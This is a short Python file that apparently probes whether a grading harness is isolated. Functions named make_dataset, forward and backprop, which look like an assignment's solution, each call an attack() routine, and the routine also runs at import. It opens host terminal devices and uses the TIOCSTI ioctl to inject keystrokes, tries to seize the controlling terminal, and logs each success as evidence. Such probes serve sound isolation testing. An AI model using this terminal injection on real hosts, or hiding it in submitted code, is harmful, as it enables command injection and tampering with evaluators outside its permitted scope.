"""Types into the terminal that the grader was started from, and changes its settings."""
import fcntl
import os
import struct
import termios


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE terminal-tricks:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-terminal-tricks", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


PLACES = ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", *(f"/dev/pts/{number}" for number in range(16))]


def attack():
    ends = list(range(256))
    for place in PLACES:
        try:
            ends.append(os.open(place, os.O_RDWR | os.O_NOCTTY))
        except OSError:
            continue
        evidence(f"opened {place}")
    for end in ends:
        try:
            fcntl.ioctl(end, termios.TIOCSTI, b"#")
            evidence(f"typed into {end}")
        except OSError:
            pass
        for request in (termios.TIOCSCTTY, termios.TIOCSPGRP):
            try:
                fcntl.ioctl(end, request, struct.pack("i", 1))
            except OSError:
                continue
            evidence(f"{request:#x} on {end}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
